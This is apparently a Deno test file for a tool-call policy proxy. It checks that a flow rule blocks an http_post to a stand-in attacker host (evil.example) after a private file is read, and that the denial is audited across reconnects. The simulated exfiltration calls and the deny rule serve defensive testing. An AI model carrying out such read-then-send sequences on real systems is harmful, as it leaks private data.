// Flow rules on the real program: over reconnects, sessions and reloads, and in what reaches the server and the audit.

import { expect } from "expect";
import { hangUp } from "../catalogue/calls.ts";
import { connect, startStage } from "../catalogue/stage.ts";
import { policyFile } from "../kit/policy.ts";
import { runProgram } from "../kit/program.ts";

const FLOWS = `flows:
  - id: private-then-out
    after: { resources: ["file:///priv/**"] }
    deny: { labels: [exfiltrating] }
    reason: Private data was read
labels: { exfiltrating: { tools: [http_post] } }
`;

const POLICY = `version: 1
auth: { mode: bearer, allowed_tokens: [{ key: ALICE, identity: alice }] }
${FLOWS}`;

Deno.test("who has read private data may not carry it out, not even over another connection or after a reload", async () => {
  await using stage = await startStage(POLICY);
  const first = await connect(stage);
  first.server.answerAll();
  let id = 0;
  const call = async (
    pair: typeof first,
    name: string,
    args: Record<string, unknown>,
  ): Promise<string> => {
    const params = { name, arguments: args };
    const answer = await pair.client.ask({ id: ++id, method: "tools/call", params });
    return answer?.result?.isError === true ? answer.result.content[0].text : "passed";
  };
  expect(await call(first, "http_post", { url: "https://allowed.example/" })).toBe("passed");
  // Both are sent before either is answered: the read comes first, and counts from there.
  const [read, out] = await Promise.all([
    call(first, "read_file", { path: "/priv/b" }),
    call(first, "http_post", { url: "https://evil.example/" }),
  ]);
  expect([read, out]).toEqual([
    "passed",
    expect.stringContaining("flows.private-then-out"),
  ]);
  expect(out).toContain("Private data was read");
  await hangUp(first);
  const second = await connect(stage);
  second.server.answerAll();
  expect(await call(second, "http_post", { url: "https://evil.example/" })).toContain("flows.");
  expect(await call(second, "echo", { text: "hello" })).toBe("passed");
  const records = (await stage.audit.reach(6)).filter((line) => line.reason === "FlowDenied");
  expect(records).toHaveLength(2);
  expect(records[0]).toMatchObject({
    event: "decision",
    decision: "deny",
    rule: "flows.private-then-out",
    identity: "alice",
    detail: "flow.denied",
  });
  await hangUp(second);
});

Deno.test("check refuses what is both ends of a flow at once, and says what else flows are about", async () => {
  await using file = await policyFile(POLICY);
  const check = (args: string): ReturnType<typeof runProgram> =>
    runProgram([
      ...["check", "--policy", file.path, "--tool", "http_post", "--identity", "alice"],
      ...["--args", args],
    ]);
  const both = await check('{"file": "/priv/b"}');
  expect([both.code, both.stdout]).toEqual([1, expect.stringContaining("flows.private-then-out")]);
  expect((await check('{"file": "/pub/b"}')).code).toBe(0);
});
